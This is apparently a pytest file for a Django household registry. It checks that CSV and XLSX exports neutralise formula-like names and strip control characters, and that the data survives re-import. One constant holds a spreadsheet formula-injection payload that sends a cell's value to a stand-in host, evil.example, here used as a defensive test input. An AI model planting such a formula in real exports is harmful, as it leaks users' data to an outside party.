"""Exports carry no live formula and no control character, and read back identical (issue 13,
item 4): a text beginning with =, +, -, @ is a text cell in XLSX and gets one apostrophe in CSV,
which the import takes off again."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from keyholder.registry.models import Household, Person
from keyholder.registry.tests.importfiles import good_rows, run_command, write_csv
from keyholder.registry.tests.test_export_round_trip import empty_registry
from keyholder.testing import Cast, make_household, make_person

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
NAMES = [FORMULA, "+992 93", "-1", "@SUM(A1)", "'quoted", "'=both"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_names_go_out_as_text_and_come_back_identical(
    cast: Cast, tmp_path: Path, suffix: str
) -> None:
    household = make_household(cast.village, name="Formulas")
    people = {make_person(household, name).pk: name for name in NAMES}
    # A name stored before control characters were refused: it leaves them out of the export.
    # (No NUL here: PostgreSQL never stored one, so no legacy data can hold it.)
    legacy = make_household(cast.village, name="Legacy")
    Household.objects.filter(pk=legacy.pk).update(name="Leg\x08acy\x7f")
    exported = tmp_path / f"out{suffix}"

    result = run_command("export", "--place", "TJ-SU-ASHT", "-o", str(exported))

    assert result.ok, result.err
    if suffix == ".xlsx":
        sheet = load_workbook(exported).worksheets[0]
        cells = [c for row in sheet.iter_rows() for c in row if c.value in NAMES]
        assert {c.value for c in cells} == set(NAMES)
        assert all(c.data_type == "s" for c in cells)
        assert "Legacy" in [c.value for row in sheet.iter_rows() for c in row]
    else:
        with exported.open(encoding="utf-8-sig", newline="") as stream:
            values = [v for row in csv.reader(stream) for v in row]
        assert f"'{FORMULA}" in values and "'+992 93" in values and "''quoted" in values
        assert not any(v.startswith(("=", "+", "@")) for v in values)
        assert "Legacy" in values
    empty_registry()

    reimported = run_command("import", str(exported), language="en")

    assert reimported.ok, reimported.out + reimported.err
    assert dict(Person.objects.filter(pk__in=people).values_list("pk", "given_name")) == people
    assert Household.objects.get(pk=legacy.pk).name == "Legacy"


def test_the_import_refuses_a_control_character(cast: Cast, tmp_path: Path) -> None:
    rows = good_rows()
    person = next(r for r in rows if r["record"] == "person")
    person["given_name"] = "Ka\x08rim"

    result = run_command("import", str(write_csv(tmp_path / "in.csv", rows)), language="en")

    assert not result.ok
    assert "“given_name” holds a control character (U+0008)" in result.out
